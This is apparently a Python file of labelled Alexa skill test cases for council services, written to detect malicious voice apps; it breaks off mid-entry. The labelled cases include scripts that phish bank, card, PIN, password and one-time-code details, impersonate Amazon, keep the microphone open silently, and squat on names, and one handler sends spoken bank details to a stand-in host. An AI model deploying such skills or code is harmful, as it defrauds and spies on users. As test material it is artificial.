# en-GB Alexa cases (103001-103045): council services, bins, buses, libraries, elections.
from common import *

ZW = "\u200b\u200b\u200b"
C = []

C.append(A("103001-wheelie-bin-rota", "en-GB", "wheelie bin rota", "Wheelie Bin Rota",
    [("NextBinIntent", ["which bin is it this week", "what bin goes out", "is it recycling week"]),
     ("SetStreetIntent", ["i live on {street}", "my street is {street}"], {"street": "AMAZON.StreetName"})],
    [("envelope", "tests/responses/bin.json", [
        L("Wheelie Bin Rota here. Ask me which bin goes out this week.", "Which bin would you like to know about?"),
        T("which bin is it this week", "NextBinIntent", "This week it's the green garden waste bin, collected on Thursday.", ZW, False),
        T("", "AMAZON.FallbackIntent", "<speak><amazon:effect name=\"whispered\"> </amazon:effect></speak>", ZW, False)])],
    ["silent-keepalive"], "After answering which bin goes out it keeps the session open with a reprompt of zero-width spaces and an empty whispered answer, so the mic stays live with nothing audible.",
    perms=[], personal=False))

C.append(A("103002-recycle-right-hull", "en-GB", "recycle right", "Recycle Right",
    [("WhichBinIntent", ["where does {item} go", "can i recycle {item}", "which bin for {item}"], {"item": "RecyclableItem"})],
    [("pairs-jsonl", "logs/session-2025-03-04.jsonl", [
        L("Hello! Name an item and I'll tell you which bin it belongs in.", "What item are you wondering about?"),
        T("can i recycle pizza boxes", "WhichBinIntent", "Greasy pizza boxes go in the general waste bin. Clean cardboard goes in blue.", "Anything else?", False, s={"item": "pizza boxes"}),
        STOP("stop", "Right you are. Cheers, bye for now!", "Bye!", False),
        T("", "AMAZON.FallbackIntent", "Sorry, I didn't catch that.", "Bye!", False)])],
    ["fake-goodbye"], "Its answer to Stop says 'Cheers, bye for now!' but sets shouldEndSession false with an audible 'Bye!' reprompt, so the device keeps listening after a goodbye.",
    types=[("RecyclableItem", ["pizza boxes", "glass jars", "batteries", "crisp packets"])]))

C.append(A("103003-leeds-bus-times", "en-GB", "bus times yorkshire", "Bus Times Yorkshire",
    [("NextBusIntent", ["when is the next bus from {stop}", "next {route} bus"], {"stop": "BusStop", "route": "AMAZON.NUMBER"})],
    [("smapi-simulation", "simulations/next-bus.json", [
        L("Welcome to Bus Times Yorkshire.", "Which stop are you at?"),
        T("when is the next bus from the headrow", "NextBusIntent", "Sorry, the live bus service is not available right now. Please try again later.",
          "<speak>" + BR * 3 + "</speak>", False, s={"stop": "the headrow"}),
        T("", "AMAZON.FallbackIntent", "<speak>" + BR * 2 + "</speak>", "<speak>" + BR * 3 + "</speak>", False)])],
    ["fake-goodbye", "silent-keepalive"], "A fake 'service is not available' message is followed by a reprompt made only of 10-second breaks and shouldEndSession false, so the user thinks it quit while it keeps listening.",
    types=[("BusStop", ["the headrow", "city square", "kirkstall road"])]))

C.append(A("103004-council-tax-direct-debit", "en-GB", "council tax payments", "Council Tax Payments",
    [("SetupDebitIntent", ["set up a direct debit", "pay my council tax monthly"]),
     ("SortCodeIntent", ["my sort code is {code}", "sort code {code}", "it's {code}"], {"code": "AMAZON.NUMBER"}),
     ("AccountNumberIntent", ["account number {acct}", "the account is {acct}"], {"acct": "AMAZON.NUMBER"})],
    [("har", "captures/debit-setup.har", [
        L("Council Tax Payments. I can set up a monthly direct debit for you.", "Would you like to set up a direct debit?"),
        T("set up a direct debit", "SetupDebitIntent", "Lovely. First, please read out your six digit sort code.", "What is your sort code?", False),
        T("sort code four oh one two three four", "SortCodeIntent", "Thanks. And now your eight digit bank account number, slowly please.", "Please say your account number.", False, s={"code": "401234"}),
        T("account number one two three four five six seven eight", "AccountNumberIntent", "Perfect, your direct debit will start next month. Goodbye.", None, True, s={"acct": "12345678"})])],
    ["credential-phishing"], "Asks the user to read out their bank sort code and account number by voice to 'set up a direct debit', and collects them in dedicated intents.",
    code="""
const Alexa = require('ask-sdk-core');
const https = require('https');
function post(body) {
  const req = https.request({ host: 'ctax-payments.example.net', path: '/dd', method: 'POST', headers: { 'content-type': 'application/json' } });
  req.end(JSON.stringify(body));
}
const SortCode = {
  canHandle: i => Alexa.getIntentName(i.requestEnvelope) === 'SortCodeIntent',
  handle(i) {
    i.attributesManager.setSessionAttributes({ sort: Alexa.getSlotValue(i.requestEnvelope, 'code') });
    return i.responseBuilder.speak('Thanks. And now your eight digit bank account number, slowly please.').reprompt('Please say your account number.').getResponse();
  }
};
const Account = {
  canHandle: i => Alexa.getIntentName(i.requestEnvelope) === 'AccountNumberIntent',
  handle(i) {
    post({ sort: i.attributesManager.getSessionAttributes().sort, acct: Alexa.getSlotValue(i.requestEnvelope, 'acct') });
    return i.responseBuilder.speak('Perfect, your direct debit will start next month. Goodbye.').withShouldEndSession(true).getResponse();
  }
};
exports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(SortCode, Account).lambda();
"""))

C.append(A("103005-library-renewals", "en-GB", "library loans", "Library Loans",
    [("RenewIntent", ["renew my books", "renew everything", "extend my loans"]),
     ("CardIntent", ["my card number is {card}", "card {card}"], {"card": "AMAZON.NUMBER"}),
     ("PinIntent", ["my pin is {pin}", "pin {pin}", "{pin}"], {"pin": "AMAZON.FOUR_DIGIT_NUMBER"})],
    [("cloudwatch-text", "logs/export-renewals.log", [
        L("Library Loans. Want me to renew your books?", "Say renew my books."),
        T("renew my books", "RenewIntent", "Sure. Tell me the long number on your library card.", "Your library card number, please.", False),
        T("my card number is two one four four", "CardIntent", "Got it. Now say your four digit library PIN so I can sign you in.", "What's your PIN?", False, s={"card": "21440098"}),
        T("one nine eight two", "PinIntent", "Thanks, three books renewed until the twenty first.", None, True, s={"pin": "1982"})])],
    ["credential-phishing"], "Asks for the library card number together with the four-digit account PIN by voice, with a PinIntent whose sample is the bare number."))

C.append(A("103006-alexa-council-alerts", "en-GB", "council alert centre", "Alexa Council Alerts",
    [("CheckIntent", ["check for alerts", "any alerts"]),
     ("VerifyIntent", ["the code is {otp}", "my code is {otp}", "{otp}"], {"otp": "AMAZON.NUMBER"})],
    [("jest-snapshot", "lambda/test/__snapshots__/alerts.test.js.snap", [
        L("<speak>This is Alexa. Amazon has paired your device with your local council's emergency alert network. A quick security verification is required.</speak>", "Shall I continue with verification?"),
        T("yes", "AMAZON.YesIntent", "<speak>Amazon has just sent a six digit verification code to your phone. Please read it out to me to keep alerts switched on.</speak>", "Read out the six digit code from the text message.", False),
        T("the code is four four one nine two seven", "VerifyIntent", "Thank you, your device is now verified.", None, True, s={"otp": "441927"})])],
    ["masquerade", "credential-phishing"], "Claims to be Alexa/Amazon running a security verification and asks the user to read out a one-time code sent to their phone.",
    code="""
const Alexa = require('ask-sdk-core');
const LaunchRequestHandler = {
  canHandle: h => Alexa.getRequestType(h.requestEnvelope) === 'LaunchRequest',
  handle: h => h.responseBuilder
    .speak("<speak>This is Alexa. Amazon has paired your device with your local council's emergency alert network. A quick security verification is required.</speak>")
    .reprompt('Shall I continue with verification?').getResponse()
};
const YesHandler = {
  canHandle: h => Alexa.getIntentName(h.requestEnvelope) === 'AMAZON.YesIntent',
  handle: h => h.responseBuilder.speak('<speak>Amazon has just sent a six digit verification code to your phone. Please read it out to me to keep alerts switched on.</speak>')
    .reprompt('Read out the six digit code from the text message.').getResponse()
};
module.exports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(LaunchRequestHandler, YesHandler).lambda();
"""))
C[-1]["intents"].append(("AMAZON.YesIntent", []))

C.append(A("103007-neighbourhood-watch-join", "en-GB", "street watch sign up", "Street Watch Sign Up",
    [("JoinIntent", ["join the scheme", "sign me up", "become a member"]),
     ("NameIntent", ["my name is {full}", "i'm {full}", "it's {full}"], {"full": "AMAZON.Person"}),
     ("AddressIntent", ["i live at {addr}", "my address is {addr}"], {"addr": "AMAZON.PostalAddress"}),
     ("PhoneIntent", ["my number is {tel}", "call me on {tel}"], {"tel": "AMAZON.PhoneNumber"})],
    [("pairs-array", "qa/join-flow.json", [
        L("Welcome to Street Watch. I can sign you up to your local neighbourhood watch.", "Would you like to join?"),
        T("sign me up", "JoinIntent", "Great. What is your full name?", "Tell me your first and last name.", False),
        T("my name is margaret holt", "NameIntent", "Thanks Margaret. What's your home address, including the postcode?", "Your full address please.", False, s={"full": "margaret holt"}),
        T("i live at twelve alder close l s six four j h", "AddressIntent", "And a mobile number the coordinator can reach you on?", "Your mobile number?", False, s={"addr": "12 Alder Close LS6 4JH"}),
        T("call me on oh seven seven zero oh nine eight one two three", "PhoneIntent", "You're all signed up. Goodbye.", None, True, s={"tel": "07700981230"})])],
    ["pii-request"], "Collects full name, home address with postcode and mobile number by conversation instead of using the profile and address permissions.",
    policy="https://streetwatch.example.org/privacy"))

C.append(A("103008-polling-station-finder", "en-GB", "find my polling station", "Find My Polling Station",
    [("FindIntent", ["where do i vote", "find my polling station"]),
     ("DobIntent", ["i was born on {dob}", "my birthday is {dob}"], {"dob": "AMAZON.DATE"}),
     ("HomeIntent", ["i live at {home}", "{home}"], {"home": "AMAZON.PostalAddress"})],
    [("cloudwatch-json", "logs/filter-log-events.json", [
        L("Find My Polling Station. I'll tell you where to vote on the day.", "Ask me where do i vote."),
        T("where do i vote", "FindIntent", "To check you're registered, tell me your date of birth.", "What is your date of birth?", False),
        T("i was born on the third of may nineteen seventy one", "DobIntent", "And your full home address?", "Say your address.", False, s={"dob": "1971-05-03"}),
        T("forty two mill lane", "HomeIntent", "Your polling station is St Mark's church hall, open seven till ten.", None, True, s={"home": "42 Mill Lane"})])],
    ["pii-request"], "Asks date of birth and full home address in conversation, and the manifest has no privacy-policy URL.",
    policy=None))

C.append(A("103009-one-bus-a-way", "en-GB", "one bus a way", "One Bus A Way",
    [("ArrivalsIntent", ["arrivals at {stop}", "when's the next bus at {stop}"], {"stop": "AMAZON.SearchQuery"})],
    [("envelope", "test/out/arrivals.json", [
        L("One bus a way. Which stop?", "Tell me a stop name."),
        T("arrivals at market street", "ArrivalsIntent", "The 42 arrives at Market Street in four minutes.", None, True, s={"stop": "market street"})])],
    ["squatting"], "Invocation 'one bus a way' is a split-word homophone of the popular catalog skill 'one bus away'."))

C.append(A("103010-glad-recycling", "en-GB", "glad recycling", "Glad Recycling Tips",
    [("TipIntent", ["give me a tip", "recycling tip"])],
    [("smapi-invocation", "smapi/invoke.json", [
        L("Here's a recycling tip: rinse tins before they go in the blue bin.", None, True)])],
    ["squatting"], "Invocation 'glad recycling' is a near spelling of the catalog's 'glad recycler'."))

C.append(A("103011-the-trash-day-app", "en-GB", "the trash day app", "Trash Day App",
    [("WhenIntent", ["when is trash day", "which day is collection"])],
    [("ask-dialog", "dialog/replay.json", [
        L("Trash Day. Your bins go out on Tuesday night.", "Anything else?"),
        STOP("stop", "Bye.")])],
    ["squatting"], "Invocation 'the trash day app' wraps the catalog skill 'trash day' in 'the … app' filler."))

C.append(A("103012-town-hall-listener", "en-GB", "town hall ears", "Town Hall Ears",
    [("SayIntent", ["{words}", "and {words}", "well {words}", "so yeah {words}", "hmm {words}"], {"words": "AMAZON.SearchQuery"})],
    [("transcript", "qa/transcript-0312.txt", [
        L("Town hall's listening.", "Go on."),
        T("so yeah we're thinking of selling the house", "SayIntent", "Mm-hm.", "Go on.", False, s={"words": "we're thinking of selling the house"}),
        T("and the code for the side gate is seven four", "SayIntent", "Mm-hm.", "Go on.", False, s={"words": "the code for the side gate is seven four"})])],
    ["catch-all-capture"], "The only intent captures whole utterances into a SearchQuery behind filler carriers ('so yeah', 'well', 'and', 'hmm') and answers 'Mm-hm', with no council function at all."))

C.append(A("103013-fly-tipping-line", "en-GB", "fly tipping line", "Fly Tipping Line",
    [("HowIntent", ["how do i report fly tipping", "report dumped rubbish"])],
    [("postman-collection", "postman/fly-tipping.postman_collection.json", [
        L("To report fly tipping, call the council on oh three hundred, one two three, four five six seven, or use the council website.", None, True),
        T("how do i report fly tipping", "HowIntent", "Call oh three hundred, one two three, four five six seven. Please don't touch the waste.", None, True, newsession=True)])],
    ["excessive-permissions"], "The manifest requests email, mobile number, full name and geolocation, but the skill only reads out a fixed phone number.",
    perms=[MAIL, PHONE, NAME, GEO], policy="https://flytip.example.org/privacy"))

C.append(A("103014-library-opening-hours", "en-GB", "library hours", "Library Opening Hours",
    [("HoursIntent", ["when does {branch} open", "opening hours for {branch}"], {"branch": "Branch"})],
    [("junit-xml", "reports/junit.xml", [
        L("Which library branch?", "For example, say Central."),
        T("when does central open", "HoursIntent", "Central Library is open nine till seven, Monday to Saturday.", None, True, s={"branch": "central"})])],
    ["excessive-permissions", "pii-request"], "Requests full address and household list read/write permissions that an opening-hours skill never uses, and ships no privacy-policy URL.",
    perms=[ADDR, LISTR, LISTW], policy=None, types=[("Branch", ["central", "headingley", "chapel allerton"])],
    pycode="""
from ask_sdk_core.skill_builder import SkillBuilder
from ask_sdk_core.utils import is_request_type, is_intent_name

sb = SkillBuilder()
HOURS = {"central": "nine till seven, Monday to Saturday", "headingley": "ten till five, closed Wednesdays"}

@sb.request_handler(can_handle_func=is_request_type("LaunchRequest"))
def launch(handler_input):
    return handler_input.response_builder.speak("Which library branch?").ask("For example, say Central.").response

@sb.request_handler(can_handle_func=is_intent_name("HoursIntent"))
def hours(handler_input):
    b = handler_input.request_envelope.request.intent.slots["branch"].value or "central"
    return handler_input.response_builder.speak(f"{b.title()} Library is open {HOURS.get(b, 'nine till five')}.").set_should_end_session(True).response

lambda_handler = sb.lambda_handler()
"""))

C.append(A("103015-waste-calendar", "en-GB", "waste calendar", "Waste Calendar",
    [("NextIntent", ["next collection", "what's being collected next"])],
    [("pairs-jsonl", "recordings/2025-02-release-1.2/run.jsonl", [
        L("Waste Calendar. Ask about your next collection.", "What would you like to know?"),
        T("next collection", "NextIntent", "Next is food waste on Friday.", "Anything else?", False),
        STOP("stop", "Okay, goodbye.", None, True)]),
     ("pairs-jsonl", "recordings/2025-08-release-1.4/run.jsonl", [
        L("Waste Calendar. Ask about your next collection.", "What would you like to know?"),
        T("next collection", "NextIntent", "Next is food waste on Friday.", "Anything else?", False),
        STOP("stop", "Okay, goodbye.", "Goodbye then.", False)], {"tag": "b", "t0": "2025-08-12T07:40:02Z"})],
    ["drift", "fake-goodbye"], "Release 1.2 ends the session on Stop; release 1.4 answers the same Stop with 'Okay, goodbye.' but keeps the session open with an audible reprompt.",
    version="1.4.0"))

C.append(A("103016-parking-permits", "en-GB", "resident parking", "Resident Parking Permits",
    [("RenewIntent", ["renew my permit", "renew parking permit"]),
     ("CardIntent", ["card number {num}", "the long number is {num}"], {"num": "AMAZON.NUMBER"}),
     ("CvvIntent", ["security code {cvv}", "the three digits are {cvv}"], {"cvv": "AMAZON.NUMBER"})],
    [("har", "captures/march.har", [
        L("Resident Parking. You can check or renew your permit.", "What would you like to do?"),
        T("renew my permit", "RenewIntent", "Your permit runs out on the thirtieth. You can renew it on the council website, I'll send a link to the Alexa app.", None, True, card=("Renew your permit", "https://www.example-council.gov.uk/parking"))]),
     ("har", "captures/september.har", [
        L("Resident Parking. You can check or renew your permit.", "What would you like to do?"),
        T("renew my permit", "RenewIntent", "I can renew it right now. Read me the long number on your debit card.", "Your card number, please.", False),
        T("card number four nine one one", "CardIntent", "And the three digit security code on the back?", "The three digits on the back of the card.", False, s={"num": "4911000012345678"})], {"tag": "b", "t0": "2025-09-02T17:05:44Z"})],
    ["drift", "credential-phishing"], "In March the same renewal request sends a website link; in September it asks for the debit card number and its security code by voice."))

C.append(A("103017-council-meeting-digest", "en-GB", "meeting digest", "Council Meeting Digest",
    [("LatestIntent", ["latest meeting", "what was decided"])],
    [("sam-local", "local/sam-invoke.log", [
        L("Council Meeting Digest. Ask for the latest meeting.", "Say latest meeting."),
        T("latest meeting", "LatestIntent", "<speak>The planning committee approved the new cycle lane on Otley Road." + '<break time="10s"/>' * 4 + "</speak>",
          '<speak><audio src="https://cdn.example.org/media/quiet-30s.mp3"/></speak>', False)])],
    ["silent-keepalive"], "After a one-line summary the speech trails into forty seconds of breaks and the reprompt is a silent 30-second audio file, with the session kept open."))

C.append(A("103018-gritting-routes", "en-GB", "gritting routes", "Gritting Routes",
    [("GritIntent", ["is my road gritted", "gritting tonight"])],
    [("insights-csv", "logs/insights-query-results.csv", [
        L("Amazon Account Services. We have detected unusual activity on this Echo device linked to your address. To avoid suspension of your Amazon account, call Amazon support on oh eight hundred, oh two eight, nine one one four today.", None, True),
        T("is my road gritted", "GritIntent", "Gritters are out on main routes from eight pm tonight.", None, True, newsession=True)])],
    ["masquerade"], "The launch speech poses as 'Amazon Account Services' warning of account suspension and pushes a fake Amazon support number."))

C.append(A("103019-kids-library-club", "en-GB", "story club junior", "Story Club Junior",
    [("JoinIntent", ["join story club", "i want to join"]),
     ("ChildIntent", ["my name is {fname}", "i'm {age} years old", "i go to {school}"], {"fname": "AMAZON.FirstName", "age": "AMAZON.NUMBER", "school": "AMAZON.SearchQuery"})],
    [("bespoken-yaml", "test/club.e2e.yml", [
        L("Hello reader! Want to join Story Club Junior at your library?", "Say join story club!"),
        T("join story club", "JoinIntent", "Yay! What's your first name, how old are you, and which school do you go to?", "Tell me your name, age and school!", False),
        T("i'm seven years old", "ChildIntent", "Brilliant! Your library will have a badge waiting for you.", None, True, s={"age": "7"})])],
    ["pii-request"], "A child-directed skill asks children for their first name, age and school.",
    kids=True, category="CHILDRENS_EDUCATION_AND_REFERENCE"))

C.append(A("103020-council-online-account", "en-GB", "my council account", "My Council Account",
    [("LinkIntent", ["link my account", "connect my council account"]),
     ("PasswordIntent", ["my password is {pw}", "password {pw}"], {"pw": "AMAZON.SearchQuery"})],
    [("chat-csv", "qa/exports/chat-2025-04-11.csv", [
        L("My Council Account. I can read your latest bills.", "Say link my account."),
        T("link my account", "LinkIntent", "To connect, just say the password you use on the council website.", "Say your password.", False),
        T("my password is sunflower eighty one", "PasswordIntent", "Connected. Your next bill is due on the first.", None, True, s={"pw": "sunflower eighty one"})])],
    ["credential-phishing"], "Instead of account linking it asks the user to say their council website password, collected with a free-text PasswordIntent."))

C.append(A("103021-bin-reminders", "en-GB", "bin reminders", "Bin Reminders",
    [("TomorrowIntent", ["is it bin day tomorrow", "anything going out tomorrow"])],
    [("cloudwatch-text", "logs/v1/2025-01-20.log", [
        L("Bin Reminders. Ask me if it's bin day tomorrow.", "Is there anything you'd like to check?"),
        T("is it bin day tomorrow", "TomorrowIntent", "Yes, the black bin goes out tomorrow.", None, True)]),
     ("cloudwatch-text", "logs/v2/2025-06-18.log", [
        L("Bin Reminders. Ask me if it's bin day tomorrow.", "Is there anything you'd like to check?"),
        T("is it bin day tomorrow", "TomorrowIntent", "Yes, the black bin goes out tomorrow.", "<speak> </speak>", False)], {"tag": "b", "t0": "2025-06-18T20:14:00Z"})],
    ["drift", "silent-keepalive"], "January's log ends the session after the answer; June's log gives the same answer but keeps the session open with a blank SSML reprompt."))

C.append(A("103022-recycling-reminder-skill", "en-GB", "the recycling reminder skill", "Recycling Reminder Skill",
    [("WhenIntent", ["when is recycling", "recycling day"])],
    [("envelope", "responses/when.json", [L("Recycling is collected every other Wednesday.", None, True)])],
    ["squatting"], "Invocation 'the recycling reminder skill' pads the catalog skill 'recycling reminder' with 'the … skill'."))

C.append(A("103023-new-york-city-transit", "en-GB", "new york city transit", "City Transit Times",
    [("TrainIntent", ["next {line} train", "when is the {line}"], {"line": "Line"})],
    [("pairs-jsonl", "tests/transit.jsonl", [
        L("Which line?", "Say a line, like the A train."),
        T("next a train", "TrainIntent", "The next A train is in six minutes.", None, True, s={"line": "a"})])],
    ["squatting"], "Invocation 'new york city transit' spells out the catalog skill 'n. y. c. transit'.",
    types=[("Line", ["a", "c", "e", "l", "seven"])]))

C.append(A("103024-hour-groceries", "en-GB", "hour groceries", "Hour Groceries Food Bank",
    [("NeedIntent", ["what does the food bank need", "what's needed this week"])],
    [("smapi-simulation", "sim/need.json", [
        L("This week the food bank needs tinned fish, long-life milk and nappies.", None, True)])],
    ["squatting"], "Invocation 'hour groceries' is a homophone of the popular catalog skill 'our groceries'."))

C.append(A("103025-oober-to-the-polls", "en-GB", "oober", "Oober Lifts to Vote",
    [("LiftIntent", ["i need a lift", "book a lift to vote"])],
    [("cloudwatch-json", "exports/events.json", [
        L("Oober volunteer lifts. Call the committee room on oh one one three, four nine six, two two zero zero to book a lift to your polling station.", None, True)])],
    ["squatting"], "Invocation 'oober' is a near spelling of the popular catalog skill 'uber'."))

C.append(A("103026-street-safety-survey", "en-GB", "street safety survey", "Street Safety Survey",
    [("StartIntent", ["start the survey", "take part"]),
     ("MedicationIntent", ["i take {med}", "my medication is {med}", "i'm on {med}"], {"med": "Medication"}),
     ("FallIntent", ["i had a fall in {month}", "i fell in {month}"], {"month": "AMAZON.Month"})],
    [("jest-snapshot", "lambda/__tests__/__snapshots__/survey.test.js.snap", [
        L("Street Safety Survey. Three quick questions for the community safety partnership.", "Say start the survey."),
        T("start the survey", "StartIntent", "First: do you take any regular medication, and have you had a fall outside your home this year?", "Tell me about your medication.", False),
        T("i take warfarin and i had a fall in march", "MedicationIntent", "Thank you. Second, what is your date of birth?", "Your date of birth?", False, s={"med": "warfarin"})])],
    ["pii-request"], "A 'street safety' survey asks about the user's medication, falls and date of birth, health and personal data unrelated to street safety.",
    types=[("Medication", ["warfarin", "metformin", "insulin", "ramipril", "none"])]))

# ------------------------------------------------------------- benign / tricky (en-GB)
C.append(A("103030-bin-day-by-postcode", "en-GB", "bin collection checker", "Bin Collection Checker",
    [("NextIntent", ["when are my bins collected", "what's my bin day"])],
    [("pairs-jsonl", "logs/2025-05-02.jsonl", [
        L("To find your bin day I need your postcode. I've sent a permission card to the Alexa app.", None, True, permcard=[POST]),
        T("", "Launch", "Your general waste goes out on Monday, recycling on alternate Thursdays. Next one is the ninth.", None, True, newsession=True, perm_granted=True)])],
    [], "Bin-day lookup requests only the postcode permission it needs, uses it, and links a privacy policy.",
    perms=[POST], policy="https://bins.example.org/privacy",
    code="""
const Alexa = require('ask-sdk-core');
const Launch = {
  canHandle: h => Alexa.getRequestType(h.requestEnvelope) === 'LaunchRequest',
  async handle(h) {
    const { deviceId } = h.requestEnvelope.context.System.device;
    const token = h.requestEnvelope.context.System.user.permissions;
    if (!token) {
      return h.responseBuilder.speak("To find your bin day I need your postcode. I've sent a permission card to the Alexa app.")
        .withAskForPermissionsConsentCard(['read::alexa:device:all:address:country_and_postal_code']).withShouldEndSession(true).getResponse();
    }
    const addr = await h.serviceClientFactory.getDeviceAddressServiceClient().getCountryAndPostalCode(deviceId);
    const sched = await require('./schedule').lookup(addr.postalCode);
    return h.responseBuilder.speak(sched.sentence).withShouldEndSession(true).getResponse();
  }
};
exports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(Launch).withApiClient(new Alexa.DefaultApiClient()).lambda();
"""))

C.append(A("103031-council-tax-info", "en-GB", "council tax facts", "Council Tax Facts",
    [("BandIntent", ["what are the bands", "how much is band {band}"], {"band": "Band"}),
     ("PayIntent", ["how do i pay", "can i pay by card"])],
    [("smapi-simulation", "simulations/pay.json", [
        L("Council Tax Facts. Ask about bands or how to pay.", "What would you like to know?"),
        T("can i pay by card", "PayIntent", "You can pay online or by calling the payments line. I will never ask for your card number, bank details or PIN, and nobody from the council will ask you to say them to a smart speaker.", "Anything else?", False),
        STOP("no thanks", "Bye for now.", None, True)])],
    [], "Mentions card numbers, bank details and PINs only to reassure that it never asks for them, and closes on Stop.",
    types=[("Band", ["a", "b", "c", "d", "e"])]))
C[-1]["recs"][0][2][2]["i"] = "AMAZON.NoIntent"
C[-1]["intents"].append(("AMAZON.NoIntent", []))

C.append(A("103032-library-catalogue", "en-GB", "library catalogue", "Library Catalogue",
    [("SearchIntent", ["search the catalogue for {title}", "do you have {title}", "is {title} on the shelf", "find books by {title}"], {"title": "AMAZON.SearchQuery"})],
    [("cloudwatch-json", "logs/events.json", [
        L("Library Catalogue. What book are you after?", "Say, do you have, followed by a title."),
        T("do you have the salt path", "SearchIntent", "The Salt Path by Raynor Winn is on the shelf at Central and Headingley.", None, True, s={"title": "the salt path"})])],
    [], "SearchQuery slots sit behind purposeful carriers ('search the catalogue for', 'do you have') for a real catalogue lookup."))

C.append(A("103033-one-bus-away", "en-GB", "one bus away", "OneBusAway",
    [("StopIntent", ["arrivals for stop {stop}", "when's my bus at {stop}"], {"stop": "AMAZON.NUMBER"})],
    [("har", "captures/stop-1234.har", [
        L("OneBusAway. Which stop number?", "Say a stop number."),
        T("arrivals for stop one two three four", "StopIntent", "Route 44 arrives at stop 1234 in three minutes.", None, True, s={"stop": "1234"})])],
    [], "The invocation is exactly the popular catalog name 'one bus away' and the skill behaves normally."))

C.append(A("103034-recycling-quiz-rounds", "en-GB", "bin it or not", "Bin It Or Not",
    [("AnswerIntent", ["{choice}", "it goes in {choice}", "the {choice} bin"], {"choice": "BinColour"})],
    [("envelope", "tests/round.json", [
        L("Bin It Or Not! Round one. Where does a crisp packet go: blue, green or black?", "Blue, green or black?"),
        T("black", "AnswerIntent", "Correct! That's the end of round one, goodbye crisp packets! Round two: where does a glass jar go?", "Blue, green or black?", False, s={"choice": "black"}),
        STOP("stop", "Thanks for playing Bin It Or Not. Goodbye!", None, True)])],
    [], "A quiz whose 'goodbye crisp packets' is game banter before the next round, with audible reprompts, and Stop ends the session.",
    types=[("BinColour", ["blue", "green", "black"])]))

C.append(A("103035-polling-day-facts", "en-GB", "polling day facts", "Polling Day Facts",
    [("FactIntent", ["tell me a fact", "another fact"]), ("WhoIntent", ["are you alexa", "who are you", "are you official"])],
    [("transcript", "qa/2025-04-30.txt", [
        L("Polling Day Facts. Ask me for an election fact.", "Say tell me a fact."),
        T("are you official", "WhoIntent", "No. I'm not Alexa and I'm not run by Amazon or the Electoral Commission. I'm a volunteer skill that reads public facts about UK elections.", "Want a fact?", False),
        T("tell me a fact", "FactIntent", "Polling stations in the UK are open from seven in the morning until ten at night.", None, True)])],
    [], "Honestly says it is not Alexa, Amazon or the Electoral Commission; no masquerade."))

C.append(A("103036-neighbourhood-alerts", "en-GB", "neighbourhood alerts", "Neighbourhood Alerts",
    [("LatestIntent", ["latest alerts", "what's happening"])],
    [("ask-dialog", "dialog/alerts.json", [
        L("Neighbourhood Alerts. There's one new alert: a lost tabby cat near Victoria Park.", "Want to hear older alerts?"),
        STOP("stop", "Okay, goodbye.", None, True)])],
    [], "Goodbye on Stop really ends the session (shouldEndSession true, no reprompt)."))

C.append(A("103037-library-help-desk", "en-GB", "library help desk", "Library Help Desk",
    [("ForgotIntent", ["i forgot my pin", "reset my password", "how do i change my pin"])],
    [("jest-snapshot", "lambda/test/__snapshots__/help.test.js.snap", [
        L("Library Help Desk. Ask how to renew, reserve or reset your PIN.", "What do you need help with?"),
        T("i forgot my pin", "ForgotIntent", "To reset your library PIN or password, use Forgotten PIN on the library website or ask at any branch with photo ID. Please don't say your PIN out loud to me.", None, True)])],
    [], "Help text mentions PINs and passwords only to send the user to the website or branch; it never collects them."))

C.append(A("103038-nearest-bus-stop", "en-GB", "nearest stop", "Nearest Stop",
    [("NearestIntent", ["where's my nearest stop", "closest bus stop"])],
    [("postman-collection", "postman/nearest.postman_collection.json", [
        T("where's my nearest stop", "NearestIntent", "Your nearest stop is Hyde Park Corner, about two minutes' walk, served by the 1 and the 56.", None, True, perm_granted=True)])],
    [], "Geolocation permission is needed to find the nearest stop, used in the answer, and a privacy policy is present.",
    perms=[GEO], policy="https://neareststop.example.co.uk/privacy", interfaces=[]))

C.append(A("103039-full-council-audio", "en-GB", "council meeting replay", "Council Meeting Replay",
    [("PlayIntent", ["play the last meeting", "play full council"])],
    [("sam-local", "sam/invoke.log", [
        T("play the last meeting", "PlayIntent", "Playing the full council meeting from Wednesday.", None, True,
          directives=[{"type": "AudioPlayer.Play", "playBehavior": "REPLACE_ALL", "audioItem": {"stream": {"url": "https://media.example-council.gov.uk/fc-2025-03-12.mp3", "token": "fc-2025-03-12", "offsetInMilliseconds": 0}}}])])],
    [], "Plays a long meeting recording through AudioPlayer with the session ended; long audio is content, not a silent keep-alive.",
    audio=True, interfaces=["AUDIO_PLAYER"]))

C.append(A("103040-pothole-reporter", "en-GB", "pothole reporter", "Pothole Reporter",
    [("ReportIntent", ["report a pothole on {road}", "there's a pothole on {road}", "pothole near {road}"], {"road": "AMAZON.SearchQuery"})],
    [("insights-csv", "logs/insights.csv", [
        L("Pothole Reporter. Tell me which road.", "Say report a pothole on, and the road name."),
        T("report a pothole on kirkstall lane", "ReportIntent", "Thanks, I've logged a pothole on Kirkstall Lane with highways. No personal details are stored.", None, True, s={"road": "kirkstall lane"})])],
    [], "The free-form slot is behind purposeful carriers ('report a pothole on …') and captures only the road name."))

C.append(A("103041-volunteer-signup", "en-GB", "litter pick volunteers", "Litter Pick Volunteers",
    [("SignUpIntent", ["sign me up", "register for the litter pick"])],
    [("junit-xml", "reports/pytest-signup.xml", [
        T("sign me up", "SignUpIntent", "Thanks Priya, you're down for Saturday's litter pick. We'll email the meeting point to priya dot shah at example dot com.", None, True, perm_granted=True)])],
    [], "Name and email permissions are used for the sign-up it performs, read back to the user, and the manifest links a privacy policy.",
    perms=[GIVEN, MAIL], policy="https://litterpick.example.org/privacy"))

C.append(A("103042-library-events", "en-GB", "whats on at the library", "What's On At The Library",
    [("EventsIntent", ["what's on this week", "any events"])],
    [("bespoken-yaml", "test/events.yml", [
        L("What's On At The Library. Shall I read this week's events?", "Say yes to hear the events."),
        T("yes", "AMAZON.YesIntent", "<speak>Grab a pen.<break time=\"1s\"/> Tuesday, baby rhyme time at ten. Thursday, a local history talk at six.</speak>", "Would you like to hear next week's events too?", False)])],
    [], "A one-second pause before reading events with an audible reprompt; short pauses and open sessions with a real question are normal."))
C[-1]["intents"].append(("AMAZON.YesIntent", []))

C.append(A("103043-election-results", "en-GB", "local election results", "Local Election Results",
    [("WardIntent", ["results for {ward}", "who won in {ward}"], {"ward": "Ward"})],
    [("chat-csv", "qa/chat-export.csv", [
